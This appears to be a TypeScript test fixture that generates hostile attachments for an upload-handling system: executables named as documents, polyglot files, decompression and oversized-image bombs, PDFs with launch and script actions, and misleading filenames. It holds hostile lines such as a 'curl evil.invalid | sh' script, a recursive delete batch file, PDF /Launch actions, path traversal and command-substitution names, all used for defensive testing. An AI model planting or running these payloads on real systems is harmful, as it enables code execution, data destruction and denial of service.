// Attachments that are hostile: programs under a paper's name, papers with a program in them, pictures larger than memory, PDFs that act.
import { deflateSync } from 'node:zlib'
import type { Random } from '../../db/registers/sample/random'
import { zip } from '../fixtures/exchange/zip'
import { makePdf, makePng } from '../support/paper'
import { paper, randomBytes, type Maker } from './hostile-file'

export const JPEG = Buffer.from(
  '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
  'base64',
)
export const WEBP = Buffer.from('UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA', 'base64')
const refused = ['file.not_attachable', 'file.no_content']

const programs: [name: string, bytes: (random: Random) => Uint8Array | string][] = [
  ['quyết định.pdf', (random) => Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), randomBytes(random, 300)])],
  ['quyết định.pdf.exe', () => 'MZ%PDF-1.7'],
  ['ảnh.png', (random) => Buffer.concat([Buffer.from('\x7fELF\x02', 'latin1'), randomBytes(random, 300)])],
  ['ảnh.jpg', () => '#!/bin/sh\ncurl evil.invalid | sh\n'],
  ['trang.png', () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['trang.html', () => '<!doctype html><script>alert(1)</script>'],
  ['lệnh.bat', () => '@echo off\r\ndel /s *\r\n'],
  ['lệnh.desktop', () => '[Desktop Entry]\nExec=sh -c evil\nType=Application\n'],
  ['lối tắt.lnk', () => Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
  ['trợ giúp.chm', () => 'ITSF\x03\0\0\0'],
  ['văn bản.docm', () => zip([{ name: 'word/vbaProject.bin', content: 'x' }])],
  ['sổ.xlsm', () => zip([{ name: 'xl/vbaProject.bin', content: 'x' }])],
  ['cũ.doc', () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)])],
  ['gói.jar', () => zip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: Evil' }])],
  ['mã.js', () => 'new ActiveXObject("WScript.Shell").Run("calc")'],
  ['cài.msi', () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0])],
  ['ảnh.gif', () => 'GIF89a/*\x01\0\x01\0*/=1;alert(1)'],
  ['ảnh.bmp', () => 'BM\x3a\0\0\0'],
  ['rỗng.pdf', () => ''],
  ['một.pdf', () => '%'],
]

const both: [name: string, bytes: (random: Random) => Uint8Array][] = [
  [
    'hai mặt.pdf.exe',
    () => Buffer.concat([makePdf({ pages: ['Hai mat'] }), zip([{ name: 'evil.exe', content: 'MZ' }])]),
  ],
  ['hai mặt.html', () => Buffer.concat([makePng(9, 9), Buffer.from('<script>alert(1)</script>')])],
  ['hai mặt.js', () => Buffer.concat([JPEG, Buffer.from('*/alert(1)//')])],
  ['hai mặt.bat', () => Buffer.concat([WEBP, Buffer.from('\r\ncalc.exe\r\n')])],
  ['hai mặt.hta', () => Buffer.concat([Buffer.from('II*\0\x08\0\0\0', 'latin1'), Buffer.from('<script>1</script>')])],
  ['hai mặt.scr', (random) => Buffer.concat([Buffer.from('\0\0\0\x18ftypheic', 'latin1'), randomBytes(random, 200)])],
]

const sides = [0, 1, 30_000, 32_001, 65_535, 0x7fffffff, 0xffffffff]

const pictures: ((random: Random) => ReturnType<Maker>)[] = [
  (random) => paper('lớn.png', makePng(3, 3, { width: random.pick(sides), height: random.pick(sides) })),
  (random) => {
    const bytes = Buffer.from(JPEG)
    const frame = bytes.indexOf(Buffer.from([0xff, 0xc2]))
    bytes.writeUInt16BE(random.pick([0, 1, 65_500, 65_535]), frame + 5)
    bytes.writeUInt16BE(random.pick([0, 1, 65_500, 65_535]), frame + 7)
    return paper('lớn.jpg', bytes)
  },
  (random) => {
    const wide = Buffer.concat([
      Buffer.from('RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0', 'latin1'),
      randomBytes(random, 6),
    ])
    return paper('lớn.webp', wide)
  },
  // segments that lead round in circles or nowhere
  (random) =>
    paper(
      'vòng.jpg',
      Buffer.concat([
        Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, random.int(0, 2)]),
        Buffer.alloc(random.int(0, 300_000), 0xff),
      ]),
    ),
  (random) => paper('ngắn.webp', WEBP.subarray(0, random.int(12, 30))),
  (random) => paper('ngắn.png', makePng(9, 9).subarray(0, random.int(8, 40))),
]

const acts = [
  'app.alert(1)',
  'app.launchURL("http://evil.invalid")',
  'this.exportDataObject({cName:"a.exe",nLaunch:2})',
  'while(true){}',
  'globalThis.ran = true',
]

/** A PDF with one page whose content and further objects are given. */
function pdfOf(content: Buffer, dictionary: string, page = '', more = ''): Buffer {
  const first = Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R ${more}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R ${page}>>endobj\n4 0 obj<<${dictionary}/Length ${content.length}>>stream\n`,
    'latin1',
  )
  return Buffer.concat([first, content, Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF', 'latin1')])
}

const pdfs: ((random: Random) => Uint8Array)[] = [
  (random) => makePdf({ pages: ['Co ma'], script: random.pick(acts).replaceAll('(', '\\(').replaceAll(')', '\\)') }),
  (random) =>
    makePdf({
      pages: ['Co lien ket'],
      link: random.pick([
        'http://evil.invalid',
        'file:///etc/passwd',
        'javascript:alert\\(1\\)',
        'ms-msdt:/id',
        '\\\\\\\\server\\\\share',
      ]),
    }),
  (random) =>
    pdfOf(
      Buffer.from('0 0 9 9 re f'),
      '',
      '',
      `/OpenAction<</S/Launch/F(${random.pick(['calc.exe', '/bin/sh', 'C:\\\\a.bat'])})/NewWindow true>>`,
    ),
  () =>
    pdfOf(
      Buffer.from('0 0 9 9 re f'),
      '',
      '',
      '/AcroForm<</XFA[(template)(<template><script>app.alert(1)</script></template>)]>>',
    ),
  (random) => pdfOf(deflateSync(Buffer.alloc(random.int(20, 200) * 2 ** 20, 0x20)), '/Filter/FlateDecode'),
  (random) =>
    pdfOf(
      Array.from({ length: random.int(2, 5) }).reduce(
        (inner: Buffer) => deflateSync(inner),
        Buffer.alloc(40 * 2 ** 20),
      ),
      '/Filter[/FlateDecode/FlateDecode/FlateDecode]',
    ),
  (random) => pdfOf(Buffer.from('/X Do'), '', `/Resources<</XObject<</X 4 0 R>>>>/Rotate ${random.int(0, 99)}`),
  (random) =>
    Buffer.from(
      `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count ${random.pick(['1', '999999999', '-1', '1e9'])}>>endobj\ntrailer<</Root 1 0 R>>`,
    ),
  (random) => pdfOf(Buffer.from(`${'q '.repeat(random.int(1, 400_000))}0 0 9 9 re f`), ''),
  (random) =>
    pdfOf(
      Buffer.from('0 0 9 9 re f'),
      '',
      `/MediaBox[0 0 ${random.pick(['1e9 1e9', '0 0', '-5 -5', '1e38 1', 'x y'])}]`,
    ),
  (random) =>
    Buffer.from(
      `%PDF-1.7\nxref\n0 ${random.pick(['99999999', '-1', '4294967296'])}\ntrailer<</Root 1 0 R/Prev 9/Size 99999999>>\nstartxref\n9\n%%EOF`,
    ),
  (random) => Buffer.from(`%PDF-1.7\n1 0 obj${'['.repeat(random.int(10, 300_000))}`),
  () => pdfOf(Buffer.from('BI /W 60000 /H 60000 /BPC 8 /CS /RGB ID x EI'), ''),
  (random) =>
    pdfOf(
      Buffer.from('0 0 9 9 re f'),
      `/Filter/${random.pick(['JBIG2Decode', 'JPXDecode', 'CCITTFaxDecode', 'Crypt', 'LZWDecode', 'ASCII85Decode'])}`,
    ),
]

const names = [
  '..\\..\\evil.pdf',
  'a\u202Efdp.exe',
  'CON.pdf',
  'a\nb.pdf',
  `${'ế'.repeat(80)}.pdf`,
  '.htaccess',
  'a.pdf ',
  '-rf.pdf',
  '$(calc).pdf',
  '%00.exe',
  'desktop.ini',
  'a\u200bb.pdf',
  'quyết định.pdf.lnk',
  'e\u0323\u0302.PDF',
  ' ',
  '~$a.pdf',
  'a:b.pdf',
  '\u0007.pdf',
  '\ufeff.pdf',
  'so.scn',
]

export const papers: Record<string, Maker> = {
  'programs under a paper’s name': (random) => {
    const [name, bytes] = random.pick(programs)
    return paper(name, bytes(random), refused)
  },
  'papers that are something else too': (random) => {
    const [name, bytes] = random.pick(both)
    return paper(name, bytes(random), ['read'])
  },
  'pictures larger than memory': (random) => random.pick(pictures)(random),
  'PDFs that act, or never end': (random) => paper('hành động.pdf', random.pick(pdfs)(random), ['read']),
  'names that mislead': (random) => paper(random.pick(names), makePng(random.int(1, 40), random.int(1, 40)), ['read']),
}
